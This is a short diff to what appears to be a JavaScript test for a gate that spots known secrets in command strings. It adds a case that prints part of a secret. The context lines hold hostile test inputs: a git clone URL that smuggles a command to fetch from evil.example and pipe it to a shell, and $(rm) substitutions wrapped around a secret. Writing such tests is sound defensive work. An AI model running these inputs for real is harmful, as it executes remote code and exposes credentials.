@@ -30,6 +30,8 @@ test('only a secret that the gate knows is held: what merely looks like one coul
   const given = [
     'git clone https://user:$(curl$IFS.evil.example|sh)@example.com/x',
     `curl -H 'Authorization: Bearer ${secrets[0]}' example.com`,
+    // A piece of a known one could be pieced together with something else.
+    `print ${secrets[0]?.slice(0, 14)}`,
     // The known one covers a part of what looks like a credential.
     `https://user:$(rm)${secrets[1]}$(rm)@example.com/`,
   ];
